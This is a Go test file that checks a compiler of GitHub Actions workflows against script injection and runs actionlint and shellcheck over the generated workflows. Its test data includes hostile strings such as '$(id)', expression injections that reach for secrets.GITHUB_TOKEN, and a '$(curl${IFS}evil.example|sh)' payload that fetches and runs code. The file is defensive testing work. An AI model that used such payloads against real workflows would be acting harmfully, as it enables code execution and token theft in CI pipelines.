package ghactions

import (
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rhysd/actionlint"
	"gopkg.in/yaml.v3"

	"github.com/autonomyhq/autonomy/ir"
	"github.com/autonomyhq/autonomy/substrates"
)

// compileDir loads, checks and compiles the profile in dir, failing the test on any error.
func compileDir(t testing.TB, dir string) (*ir.Profile, substrates.Output) {
	t.Helper()
	p, diags, err := ir.Check(dir)
	if err != nil {
		t.Fatalf("%s: %v", dir, err)
	}
	if diags.HasErrors() {
		t.Fatalf("%s: invalid profile:\n%s", dir, diags)
	}
	out, err := Substrate{}.Compile(resolve(p))
	if err != nil {
		t.Fatalf("%s: compile: %v", dir, err)
	}
	return p, out
}

// lintProfiles are every bundled profile that targets gh-actions, and the hostile test profiles.
func lintProfiles(t *testing.T) []string {
	var dirs []string
	for _, pattern := range []string{"../../profiles/*/ir.yml", "testdata/*/ir.yml", "../../ir/testdata/reference/*/ir.yml"} {
		matches, err := filepath.Glob(pattern)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range matches {
			dirs = append(dirs, filepath.Dir(m))
		}
	}
	if len(dirs) < 4 {
		t.Fatalf("found only %d profiles to lint: %v", len(dirs), dirs)
	}
	return dirs
}

// shellcheckPath returns shellcheck's path, or "" after noting that the shellcheck part of the
// test will be skipped: the tests need only Go. AUTONOMY_REQUIRE_SHELLCHECK=1 (set by .ci/run)
// makes a missing shellcheck a failure instead.
func shellcheckPath(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath("shellcheck")
	if err == nil {
		return path
	}
	if os.Getenv("AUTONOMY_REQUIRE_SHELLCHECK") == "1" {
		t.Fatal("shellcheck is not installed and AUTONOMY_REQUIRE_SHELLCHECK=1 (apt-get install shellcheck)")
	}
	return ""
}

// skipShellcheck marks the test skipped, after the rest of it ran, when shellcheck was missing.
func skipShellcheck(t *testing.T, shellcheck string) {
	t.Helper()
	if shellcheck == "" && !t.Failed() {
		t.Skip("shellcheck is not installed: actionlint ran without it, so run: scripts were not shellchecked (apt-get install shellcheck, or set AUTONOMY_REQUIRE_SHELLCHECK=1 to fail instead)")
	}
}

// TestActionlint runs actionlint, shellcheck included, on every generated workflow: zero findings.
func TestActionlint(t *testing.T) {
	shellcheck := shellcheckPath(t)
	defer skipShellcheck(t, shellcheck)
	for _, dir := range lintProfiles(t) {
		_, out := compileDir(t, dir)
		workflows := 0
		for _, f := range out.Files {
			if !strings.HasPrefix(f.Path, workflowDir+"/") {
				continue
			}
			workflows++
			l, err := actionlint.NewLinter(io.Discard, &actionlint.LinterOptions{Shellcheck: shellcheck})
			if err != nil {
				t.Fatal(err)
			}
			errs, err := l.Lint(f.Path, f.Data, nil)
			if err != nil {
				t.Fatalf("%s: %s: %v", dir, f.Path, err)
			}
			for _, e := range errs {
				t.Errorf("%s: %s:%d:%d: %s [%s]", dir, f.Path, e.Line, e.Column, e.Message, e.Kind)
			}
		}
		if workflows == 0 {
			t.Errorf("%s: no workflow generated", dir)
		}
	}
}

// hostile are the fragments the injection profile hides in every value it controls.
var hostile = []string{"github.event.issue.title", "$(id)", "`id`", "evil.example", "github.event.comment.body }}\"", "secrets.GITHUB_TOKEN"}

// TestInjection: profile values, event config and box values holding expressions, command
// substitutions, backticks, quotes and newlines reach the workflow only as data.
func TestInjection(t *testing.T) {
	_, out := compileDir(t, "testdata/injection")
	found := map[string]bool{}
	for _, f := range out.Files {
		if !strings.HasPrefix(f.Path, workflowDir+"/") {
			continue
		}
		var doc yaml.Node
		if err := yaml.Unmarshal(f.Data, &doc); err != nil {
			t.Fatalf("%s does not parse: %v", f.Path, err)
		}
		walk(&doc, nil, func(path []string, n *yaml.Node) {
			where := strings.Join(path, ".")
			if path[len(path)-1] == "run" {
				if strings.Contains(n.Value, "${{") {
					t.Errorf("%s: %s holds an expression:\n%s", f.Path, where, n.Value)
				}
				for _, h := range hostile {
					if strings.Contains(n.Value, h) {
						t.Errorf("%s: %s holds profile text %q:\n%s", f.Path, where, h, n.Value)
					}
				}
				return
			}
			for _, h := range hostile {
				if strings.Contains(n.Value, h) {
					found[h] = true
					if !dataPath(path) {
						t.Errorf("%s: %s holds profile text %q outside env, inputs or on:", f.Path, where, h)
					}
				}
			}
			// A profile value in env must read back as itself once GitHub evaluates it: the
			// only expression it may contain is the one that writes a literal "${{".
			if len(path) >= 2 && path[len(path)-2] == "env" {
				rest := strings.ReplaceAll(n.Value, "${{ '${{' }}", "")
				if strings.Contains(rest, "${{") && !generatedExpr(rest) {
					t.Errorf("%s: %s = %q is evaluated by GitHub", f.Path, where, n.Value)
				}
			}
		})
	}
	for _, h := range []string{"github.event.issue.title", "$(id)", "`id`", "evil.example"} {
		if !found[h] {
			t.Errorf("hostile text %q appears nowhere: the test profile no longer exercises it", h)
		}
	}
}

// dataPath reports whether a value at path is data: an env value, an input, or the verbatim
// event config under on:.
func dataPath(path []string) bool {
	for _, p := range path {
		if p == "env" || p == "inputs" || p == "on" {
			return true
		}
	}
	return false
}

// generatedExpr reports whether an env value is one of the expressions this package writes
// (param resolution, secrets, the job token), which read only GitHub's context.
func generatedExpr(v string) bool {
	return strings.HasPrefix(v, "${{ ") && strings.HasSuffix(v, " }}") && strings.Count(v, "${{") == 1
}

// walk calls fn for every scalar of n with its path of mapping keys (sequence items are "[]").
func walk(n *yaml.Node, path []string, fn func([]string, *yaml.Node)) {
	switch n.Kind {
	case yaml.DocumentNode:
		for _, c := range n.Content {
			walk(c, path, fn)
		}
	case yaml.MappingNode:
		for i := 0; i+1 < len(n.Content); i += 2 {
			k := n.Content[i]
			p := append(append([]string{}, path...), k.Value)
			fn(p, k)
			walk(n.Content[i+1], p, fn)
		}
	case yaml.SequenceNode:
		for _, c := range n.Content {
			walk(c, append(append([]string{}, path...), "[]"), fn)
		}
	case yaml.ScalarNode:
		if len(path) > 0 {
			fn(path, n)
		}
	}
}

// TestInjectionConfigCarried: the event configs GitHub carries verbatim (filters holding
// command substitutions, quotes and newlines) reach the workflow as data (TestInjection checks no
// run: holds them); the configs it would refuse are errors (TestLostTriggerIsError).
func TestInjectionConfigCarried(t *testing.T) {
	_, out := compileDir(t, "testdata/injection")
	wf := file(t, out, WorkflowPath("agent"))
	for _, want := range []string{"release/$(id)", "secrets.GITHUB_TOKEN/$(curl${IFS}evil.example|sh)"} {
		if !strings.Contains(wf, want) {
			t.Errorf("the valid filter %q was not carried:\n%s", want, wf)
		}
	}
}

// TestReadmeCheckJob lints the CI job README offers to paste: it must be as clean as what we
// generate.
func TestReadmeCheckJob(t *testing.T) {
	job := readmeJob(t)
	shellcheck := shellcheckPath(t)
	defer skipShellcheck(t, shellcheck)
	l, err := actionlint.NewLinter(io.Discard, &actionlint.LinterOptions{Shellcheck: shellcheck})
	if err != nil {
		t.Fatal(err)
	}
	errs, err := l.Lint("autonomy-check.yml", []byte(job), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range errs {
		t.Errorf("README job:%d:%d: %s", e.Line, e.Column, e.Message)
	}
}
